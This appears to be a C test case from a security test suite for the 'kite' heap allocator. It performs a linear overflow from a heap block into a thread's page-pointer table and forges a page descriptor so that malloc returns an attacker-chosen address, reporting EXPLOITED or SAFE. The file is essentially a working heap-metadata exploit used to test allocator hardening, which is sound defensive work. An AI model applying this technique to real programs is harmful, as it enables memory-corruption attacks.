/* Case 14: a linear overflow out of a block into a thread's heap state (kite's heap struct,
 * whose first field is the table of page pointers malloc follows per size). The main
 * thread and then THREADS threads, one after the other, each allocate PER blocks of 1 KiB
 * (a whole number of pages at any page size up to 256 KiB) and stay alive. Then every
 * block's end is looked at: when what follows is none of the program's blocks, is readable,
 * and reads as a table of pointers (at least half of 1025 words equal to one nonzero
 * word-aligned value: the page pointers of sizes a thread never asked for), 264 bytes are
 * overflowed into it, every word set to the address of a fake page descriptor (kite's
 * layout: next block 0, its link array the attacker's, its first block the target).
 * Every thread then calls malloc(32): EXPLOITED when one gets the target. SAFE when no
 * block is followed by such a table, or nothing comes back there. */
#include "sec.h"
#include <sched.h>

#define THREADS 8
#define PER 256
#define SZ 1024
#define WORDS 1025

/* kite's page descriptor as of its types.h: the fields malloc's fast path reads */
struct fake_page {
  uint16_t free, local_free;
  int32_t used;
  uint32_t block_size, capacity;
  void *heap;
  uint16_t *links;
  uint64_t thread_free, div_magic;
  void *start;
  uint64_t rest[9];
};
static struct fake_page fake __attribute__((aligned(128)));
static uint16_t fake_links[64];
static char target[1 << 16] __attribute__((aligned(4096)));
static char *blocks[THREADS + 1][PER];
static void *got[THREADS + 1];
static int filled;
static pthread_barrier_t attacked, done;

static void fill(int k) {
  for (int i = 0; i < PER; i++) blocks[k][i] = malloc(SZ);
}

static void *thread_main(void *arg) {
  int k = (int)(intptr_t)arg;
  fill(k);
  __atomic_store_n(&filled, k, __ATOMIC_RELEASE);
  pthread_barrier_wait(&attacked);
  got[k] = malloc(32);
  pthread_barrier_wait(&done);
  return NULL;
}

static int ours(uintptr_t q) {
  for (int k = 0; k <= THREADS; k++)
    for (int i = 0; i < PER; i++)
      if ((uintptr_t)blocks[k][i] == q) return 1;
  return 0;
}

/* Can n bytes at p be read? (a pipe write of them fails with EFAULT when they cannot) */
static int readable(const void *p, size_t n) {
  static int fds[2] = {-1, -1};
  if (fds[0] < 0 && pipe(fds) != 0) return 0;
  char buf[4096];
  for (size_t off = 0; off < n; off += 4096) {
    size_t len = n - off < 4096 ? n - off : 4096;
    if (write(fds[1], (const char *)p + off, len) != (ssize_t)len) return 0;
    if (read(fds[0], buf, len) != (ssize_t)len) return 0;
  }
  return 1;
}

static int looks_like_table(const uintptr_t *t) {
  uintptr_t v = t[WORDS / 2];
  if (v == 0 || (v & 7)) return 0;
  int same = 0;
  for (int i = 0; i < WORDS; i++) same += t[i] == v;
  return same >= WORDS / 2;
}

int main(void) {
  pthread_t th[THREADS + 1];
  pthread_barrier_init(&attacked, NULL, THREADS + 1);
  pthread_barrier_init(&done, NULL, THREADS + 1);
  fake.free = 0;
  fake.local_free = 0x1000;
  fake.block_size = 32;
  fake.capacity = 64;
  fake.links = fake_links;
  fake.start = target;
  fake_links[0] = 0x1000;
  fill(0);
  for (int k = 1; k <= THREADS; k++) { /* one at a time: each thread's memory after the last's */
    if (pthread_create(&th[k], NULL, thread_main, (void *)(intptr_t)k) != 0) return sec_result("WRONG");
    while (__atomic_load_n(&filled, __ATOMIC_ACQUIRE) != k) sched_yield();
  }
  int hits = 0;
  for (int k = 0; k <= THREADS && !hits; k++)
    for (int i = 0; i < PER && !hits; i++) {
      uintptr_t q = (uintptr_t)blocks[k][i] + SZ;
      if (!blocks[k][i] || ours(q) || !readable((void *)q, WORDS * sizeof(uintptr_t))) continue;
      if (!looks_like_table((const uintptr_t *)q)) continue;
      for (int w = 0; w < 33; w++) ((volatile uintptr_t *)q)[w] = (uintptr_t)&fake; /* 264 bytes */
      hits++;
    }
  pthread_barrier_wait(&attacked);
  got[0] = malloc(32);
  pthread_barrier_wait(&done);
  for (int k = 1; k <= THREADS; k++) pthread_join(th[k], NULL);
  for (int k = 0; k <= THREADS; k++)
    if ((uintptr_t)got[k] >= (uintptr_t)target && (uintptr_t)got[k] < (uintptr_t)target + sizeof target)
      return sec_result("EXPLOITED");
  return sec_result("SAFE");
}
